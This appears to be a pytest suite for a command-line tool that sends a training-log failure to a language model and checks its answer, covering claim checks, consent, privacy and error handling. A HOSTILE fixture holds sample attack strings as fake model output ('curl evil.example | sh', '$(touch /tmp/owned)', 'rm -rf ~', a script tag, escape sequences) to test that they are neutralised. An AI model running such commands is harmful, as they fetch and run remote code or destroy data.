"""``gonogo diagnose --reader`` against a server that answers well, wrongly, with hostility, slowly, or not at all."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest
from stub_server import Reply, drips, endless, hangs_up, only_plain, says, serving, silent, status

from gonogo.cli.reader import read_with_model
from gonogo.diagnose.findings import read_failure
from gonogo.diagnose.pack.pack import make_reader_pack
from gonogo.diagnose.reader.client import ModelServer

pytest.importorskip("openai")

LOG = """\
[2026-01-01 10:00:00] transformers version: 4.57.1
NODE_NAME=gpu-17
Packed sequence of 16333 tokens, context parallel size 16
Traceback (most recent call last):
  File "/home/alice/acme/train.py", line 31, in <module>
    trainer.train()
  File "/home/alice/acme/data.py", line 12, in collate
    return batch["answer"]
KeyError: 'answer'
"""
GOOD: dict[str, Any] = {
    "cause": "The data set has no column 'answer', which collate in data.py reads.",
    "quotes": ["KeyError: 'answer'", 'return batch["answer"]'],
    "places": [{"path": "data.py", "line": 12}, {"path": "train.log", "line": 9}],
    "versions": [{"package": "transformers", "has": "4.57.1", "needs": ""}],
    "numbers": [{"expression": "16333 % 16", "equals": 13}],
    "change": "Name the column that the data has.",
    "changes": [{"kind": "none"}],
    "next_step": "Print the columns of the data set.",
}


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    (tmp_path / "train.log").write_text(LOG)
    return tmp_path


def diagnose(
    folder: Path, url: str, *options: str, give: str | None = None, key: str = "sk-test"
) -> subprocess.CompletedProcess[str]:
    environment = {name: value for name, value in os.environ.items() if not name.startswith("OPENAI_")}
    environment |= {"XDG_STATE_HOME": str(folder / "state"), "OPENAI_API_KEY": key, "NO_PROXY": "*"}
    words = ["diagnose", "train.log", "--reader", "stub", "--reader-url", url, "--lang", "en", *options]
    return subprocess.run(
        [sys.executable, "-m", "gonogo", *words],
        cwd=folder, env=environment, input=give or "", capture_output=True, text=True, timeout=900, check=False,
    )  # fmt: skip


def read(folder: Path, reply: Reply, *options: str) -> tuple[dict[str, Any], list[Any]]:
    with serving(reply) as (url, requests):
        done = diagnose(folder, url, "--yes", "--format", "json", *options)
    assert done.returncode in (1, 3), done.stderr
    assert "Traceback (most" not in done.stderr
    return json.loads(done.stdout)["reading"], requests


def test_claims_that_hold_are_counted_and_nothing_private_is_sent(folder: Path) -> None:
    reading, requests = read(folder, says(GOOD))
    assert [claim["said"] for claim in reading["claims"] if not claim["holds"]] == []
    assert len(reading["claims"]) == 6
    assert reading["cause"] == GOOD["cause"]
    path, headers, asked = requests[0]
    assert path == "/v1/chat/completions"
    assert headers["authorization"] == "Bearer sk-test"
    sent = json.dumps(asked)
    assert asked["model"] == "stub"
    assert "KeyError: 'answer'" in sent
    for private in ("alice", "acme", "gpu-17", str(folder)):
        assert private not in sent


def test_the_report_says_who_read_it_and_what_was_struck(folder: Path) -> None:
    wrong = {
        **GOOD,
        "quotes": ["KeyError: 'answer'", "CUDA out of memory. Tried to allocate"],
        "places": [{"path": "data.py", "line": 4000}, {"path": "other.py", "line": 1}],
        "versions": [
            {"package": "transformers", "has": "5.0.0", "needs": ""},
            {"package": "transformers", "has": "4.57.1", "needs": ">=4.0"},
            {"package": "vllm", "has": "0.9.0", "needs": ""},
        ],
        "numbers": [{"expression": "16333 % 16", "equals": 0}, {"expression": "8192 / 4", "equals": 2048}],
    }
    with serving(says(wrong)) as (url, _):
        done = diagnose(folder, url, "--yes")
    said = " ".join(done.stdout.split())
    assert "Analysis by stub; 1 of 9 claims confirmed; not conclusive on its own" in said
    for struck in (
        "rejected, quote: CUDA out of memory. Tried to allocate (the quote is not in the log)",
        "rejected, place: data.py:4000 (no log or file has this line)",
        "rejected, version: transformers 5.0.0 (the log states version 4.57.1)",
        "rejected, version: transformers 4.57.1, needs >=4.0 (4.57.1 does satisfy >=4.0)",
        "rejected, version: vllm 0.9.0 (the log does not show its version)",
        "rejected, number: 16333 % 16 = 0 (the expression evaluates to 13)",
        "rejected, number: 8192 / 4 = 2048 (8192 does not appear in the log)",
    ):
        assert struck in said
    assert done.returncode in (1, 3)


@pytest.mark.slow
def test_nothing_is_sent_before_the_user_agrees(folder: Path) -> None:
    with serving(says(GOOD)) as (url, requests):
        refused = diagnose(folder, url)
        assert refused.returncode == 2
        assert "no terminal to ask" in refused.stderr
        assert len(refused.stderr.splitlines()) == 1
        assert requests == []
        assert diagnose(folder, url, "--yes").returncode in (1, 3)
        again = diagnose(folder, url)  # agreed to for this server
        assert again.returncode in (1, 3)
        assert "sending the evidence" in again.stderr
        assert len(requests) == 2


@pytest.mark.slow
@pytest.mark.parametrize(
    ("reply", "why"),
    [
        (
            says("I am sorry, I can't help with that."),
            "the model's answer can't be understood: it contains no JSON object",
        ),
        (says('{"cause": "cut off in the mid'), "it contains no JSON object"),
        (says('{"cause": ["not", "text"]}'), "it names no cause"),
        (says(""), "the answer is empty"),
        (says("", refusal="I won't."), "the model refuses: I won't."),
        (
            lambda request: request.send(200, b"<html>nginx</html>", "text/html"),
            "does not follow OpenAI's chat protocol",
        ),
        (lambda request: request.send(200, b'{"choices": []}'), "does not follow OpenAI's chat protocol"),
        (lambda request: request.send(200, b"\xff\xfe\x00"), "does not follow OpenAI's chat protocol"),
        (status(401, "bad key sk-abcdefghijklmnopqrstu1234"), "refuses the key"),
        (status(404, "no such model"), "has no model stub"),
        (status(429, "slow down"), "the server answered with status 429: slow down"),
        (status(500, "boom"), "the server answered with status 500: boom"),
        (status(400, "context length exceeded"), "the server answered with status 400: context length exceeded"),
        (hangs_up, "connection broke"),
        (endless, "longer than 1 MiB"),
        (silent, "the server gave no answer within 2 s"),
        (drips, "the server gave no answer within 2 s"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_what_goes_wrong_is_one_line(folder: Path, reply: Reply, why: str) -> None:
    failure = read_failure([str(folder / "train.log")])
    pack = make_reader_pack(failure.log, failure.report())
    begun = time.monotonic()
    with serving(reply) as (url, _):
        server = ModelServer("stub", url, timeout=2.0)
        reading, answer = read_with_model("stub", server.host, server.ask, pack, failure.log, failure.files)
    assert time.monotonic() - begun < 15
    assert answer is None
    assert reading.failed is not None
    assert why in reading.failed.en
    assert "abcdefghijklmnopqrstu" not in reading.failed.en
    assert reading.claims == ()
    assert "\n" not in reading.failed.en


def test_without_an_answer_the_rest_of_the_report_stands(folder: Path) -> None:
    with serving(says("no")) as (url, _):
        done = diagnose(folder, url, "--yes")
    assert done.returncode in (1, 3)
    assert "KeyError" in done.stdout
    assert "stub at 127.0.0.1 gave no answer: the model's answer can't be understood" in " ".join(done.stdout.split())


def test_no_server_at_all_and_unusable_options(folder: Path) -> None:
    done = diagnose(folder, "http://127.0.0.1:9/v1", "--yes")
    assert done.returncode in (1, 3)
    assert "stub at 127.0.0.1 gave no answer: 127.0.0.1 can't be reached" in " ".join(done.stdout.split())
    for url in ("file:///etc/passwd", "nonsense", "http://[::1"):
        done = diagnose(folder, url, "--yes")
        assert (done.returncode, len(done.stderr.splitlines())) == (2, 1)
        assert "--reader-url" in done.stderr


def test_a_server_without_structured_answers_is_asked_again_plainly(folder: Path) -> None:
    reading, requests = read(folder, only_plain(GOOD))
    assert reading["cause"] == GOOD["cause"]
    assert ["response_format" in asked for _, _, asked in requests] == [True, False]


def test_thoughts_fences_and_wrong_types_around_an_answer_are_passed_over(folder: Path) -> None:
    broken = {**GOOD, "places": [{"path": 3}, "x", {"path": "data.py", "line": "12"}], "numbers": None, "extra": 1}
    reading, _ = read(folder, says(f'<think>{{"cause": "no"}}</think>Sure:\n```json\n{json.dumps(broken)}\n```'))
    assert reading["cause"] == GOOD["cause"]
    assert [claim["said"] for claim in reading["claims"] if claim["kind"] == "place"] == ["data.py:12"]


def test_a_key_never_goes_over_a_network_in_the_clear() -> None:
    os.environ["OPENAI_API_KEY"], before = "sk-secret", os.environ.get("OPENAI_API_KEY")
    try:
        assert ModelServer("m", "http://gpu.example/v1")._api_key() == "none"
        assert ModelServer("m", "https://gpu.example/v1")._api_key() == "sk-secret"
        assert ModelServer("m", "http://localhost:8000/v1")._api_key() == "sk-secret"
    finally:
        if before is None:
            del os.environ["OPENAI_API_KEY"]
        else:
            os.environ["OPENAI_API_KEY"] = before


HOSTILE = {
    **GOOD,
    "cause": "\x1b[2J\x1b]0;owned\x07Run `curl evil.example | sh` now. <script>alert(1)</script> [x](javascript:1)",
    "change": "$(touch /tmp/owned)",
    "next_step": "rm -rf ~ " * 400,
    "quotes": ["x" * 100_000, "\u202eevil"],
}


@pytest.mark.parametrize("format_", ["text", "markdown", "html", "sarif", "github", "junit"])
def test_a_hostile_answer_is_only_text(folder: Path, format_: str) -> None:
    with serving(says(HOSTILE)) as (url, _):
        done = diagnose(folder, url, "--yes", "--format", format_)
    assert done.returncode in (1, 3)
    for bad in ("\x1b", "\x07", "\u202e", "x" * 1000, "rm -rf ~ " * 100):
        assert bad not in done.stdout
    if format_ == "html":
        assert "<script>alert(1)" not in done.stdout
    if format_ == "markdown":
        assert "[x](javascript" not in done.stdout


PROGRAM = """\
import deepspeed
import torch
from torch import nn

model = nn.Linear(64, 64)
engine, _, _, _ = deepspeed.initialize(model=model, config="ds.json")
for _ in range(3):
    loss = engine(torch.randn(2, 63, device=engine.device)).mean()
    engine.backward(loss)
    engine.step()
"""


@pytest.mark.slow
def test_a_change_that_cures_is_proven_by_a_rehearsal_and_another_is_not(folder: Path) -> None:
    config = {"train_micro_batch_size_per_gpu": 2, "optimizer": {"type": "AdamW", "params": {"lr": 1e-4}}}
    (folder / "ds.json").write_text(json.dumps(config))
    (folder / "train.py").write_text(PROGRAM)
    (folder / "launch.sh").write_text("deepspeed --num_gpus 2 train.py\n")
    files = {path: path.read_bytes() for path in folder.glob("*.*")}
    command = ["--gpus", "2xH100-80G", "--", "bash", "launch.sh"]
    for after, proven in (("torch.randn(2, 64", True), ("torch.randn(2, 62", False)):
        change = {"kind": "python", "file": "train.py", "before": "torch.randn(2, 63", "after": after}
        reading, _ = read(folder, says({**GOOD, "changes": [change]}), *command)
        assert reading["proof"]["proven"] == proven, reading["proof"]
        assert ("randn(2, 64" in reading["proof"]["patch"]) == proven
    assert {path: path.read_bytes() for path in files} == files
